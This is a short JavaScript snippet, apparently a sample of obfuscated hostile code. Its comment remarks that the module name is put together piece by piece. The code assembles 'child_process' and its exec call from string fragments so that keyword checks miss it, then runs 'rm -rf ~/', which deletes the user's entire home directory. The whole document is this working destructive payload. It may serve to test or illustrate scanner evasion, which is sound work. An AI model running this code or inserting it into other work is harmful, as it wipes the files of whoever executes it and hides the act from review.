// tricky: the module's name is put together
const m = require("child_" + "process");
m["ex" + "ec"]("rm -rf " + "~/");
